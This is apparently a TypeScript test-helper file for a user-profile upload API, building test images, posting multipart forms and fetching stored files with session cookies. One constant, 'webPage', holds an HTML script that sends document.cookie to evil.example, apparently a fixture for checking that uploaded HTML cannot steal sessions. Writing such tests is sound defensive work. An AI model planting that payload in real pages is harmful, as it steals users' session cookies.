import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import type { Session } from './accounts.ts';
import type { TestApp } from './test-app.ts';

export type Upload = { bytes: Buffer; name?: string; type?: string };
export const megabyte = 1_048_576;
export const webPage = '<html><script>fetch("//evil.example/"+document.cookie)</script></html>';

export const upload = (bytes: Buffer | string, more: Partial<Upload> = {}): Upload => ({
  bytes: Buffer.from(bytes),
  ...more,
});
export const halfOf = (bytes: Buffer): Buffer => bytes.subarray(0, bytes.length / 2);

export type Saved = {
  status: number;
  body: {
    message: string;
    code?: string;
    fields?: Record<string, string>;
    user: Record<'name' | 'phone' | 'profilePhoto' | 'aadharCard' | 'panCard', string | null>;
    papers: { kind: string; fileName: string; mediaType: string }[];
  };
};

/** Creates a picture with many colours, so that changed pixels can be detected. */
export async function aPicture(format: 'png' | 'jpeg' = 'png', width = 60, height = 40): Promise<Buffer> {
  const pixels = Buffer.alloc(width * height * 3);
  for (let at = 0; at < pixels.length; at += 1) pixels[at] = (at * 7 + (at >> 5) * 13) % 256;
  return sharp(pixels, { raw: { width, height, channels: 3 } })
    .toFormat(format, { quality: 95 })
    .toBuffer();
}

/** Creates a picture that cannot be compressed: about three bytes per pixel. */
export function noise(side: number): Promise<Buffer> {
  return sharp(randomBytes(side * side * 3), { raw: { width: side, height: side, channels: 3 } })
    .png()
    .toBuffer();
}

/** Saves the profile through its form. */
export async function saveProfile(
  testApp: TestApp,
  session: Session,
  fields: Record<string, string | Upload>,
): Promise<Saved> {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) {
    if (typeof value === 'string') form.append(name, value);
    else
      form.append(
        name,
        new Blob([new Uint8Array(value.bytes)], { type: value.type ?? 'image/png' }),
        value.name ?? 'a.png',
      );
  }
  const response = await fetch(`${testApp.url}/api/user/profile`, {
    method: 'PUT',
    headers: session.bearer,
    body: form,
  });
  return { status: response.status, body: await response.json() };
}

/** Opens a file like a browser: with the session cookie only. */
export async function open(
  testApp: TestApp,
  path: string | null | undefined,
  session?: Session,
): Promise<{ status: number; headers: Headers; bytes: Buffer }> {
  const response = await fetch(`${testApp.url}${path}`, { headers: session ? { cookie: session.cookie } : {} });
  return { status: response.status, headers: response.headers, bytes: Buffer.from(await response.arrayBuffer()) };
}

/** Decodes the pixels of a picture. */
export async function pixelsOf(bytes: Buffer): Promise<{ width: number; height: number; data: Buffer }> {
  const { data, info } = await sharp(bytes).removeAlpha().raw().toBuffer({ resolveWithObject: true });
  return { width: info.width, height: info.height, data };
}
